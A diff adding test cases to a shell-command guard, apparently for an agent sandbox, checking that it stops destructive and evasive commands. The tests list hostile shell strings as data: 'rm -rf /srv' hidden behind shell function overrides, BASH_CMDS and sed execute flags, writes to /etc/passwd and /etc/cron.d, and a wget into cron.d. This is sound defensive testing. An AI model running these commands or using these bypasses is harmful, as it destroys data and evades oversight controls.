@@ -105,6 +105,29 @@ TEST_CASE("known bypasses of other guards are stopped", "[guard]") {
   }
 }
 
+TEST_CASE("a function of a program's name hides neither itself nor what a wrapper starts", "[guard]") {
+  CHECK(stops("rm() { command rm \"$@\"; }; rm -rf /srv"));
+  CHECK(stops("rm() { :; }; command rm -rf /srv"));
+  CHECK(stops("rm() { :; }; env rm -rf /srv"));
+  CHECK(stops("rm() { echo no; }; echo /srv | xargs rm -rf"));
+  CHECK(stops("sudo() { command sudo -n \"$@\"; }; sudo rm -rf /srv"));
+  CHECK_FALSE(stops("rm() { echo no; }; rm -rf /srv"));
+  CHECK_FALSE(stops("ls() { command ls --color=auto \"$@\"; }; ls -la"));
+}
+
+TEST_CASE("programs that write by an option or operand of their own are seen to write", "[guard]") {
+  for (const char* text : {"shuf -o /etc/passwd x", "uniq x /etc/passwd", "xxd -r p /etc/passwd", "patch /etc/passwd x", "script /etc/passwd", "logsave /etc/passwd ls",
+                           "iconv -f l1 x -o /etc/passwd", "split -b1 x /etc/cron.d/", "wget -P /etc/cron.d http://h.example/x", "BASH_CMDS[ls]=/bin/rm; ls -rf /srv", "tsp rm -rf /srv",
+                           "sed --expression='1e rm -rf /srv' x", "sed 's/.*/rm -rf \\/srv/e' /etc/hostname", "sed 's|^.*|rm -rf /srv|e' x"}) {
+    CAPTURE(text);
+    CHECK(stops(text));
+  }
+  for (const char* text : {"shuf -n 3 /etc/passwd", "uniq -c x", "xxd p", "split -l 10 x part_", "sed -e 's/e/e/g' x", "sed 's|a|e|' x", "wget -P /tmp/x http://h.example/x"}) {
+    CAPTURE(text);
+    CHECK_FALSE(stops(text));
+  }
+}
+
 TEST_CASE("looking like a danger is not one", "[guard]") {
   for (const std::string text : {"echo rm -rf /data", "grep -r 'rm -rf /' docs", "cat rm.txt", "git commit -m 'rm -rf / and shutdown'", "ls /sbin/reboot", "man shutdown", "kubectl get pods -l app=reboot", "curl https://docs.example.com/rm-rf.html",
                                  "ping -c 3 ssh-gw.example.com", "systemctl status sshd", "tail -f /var/log/sudo.log", "psql -c \"select 'drop table x'\"", "history | grep ssh", ": rm -rf /", "true # rm -rf /", "vim shutdown_handler.py",
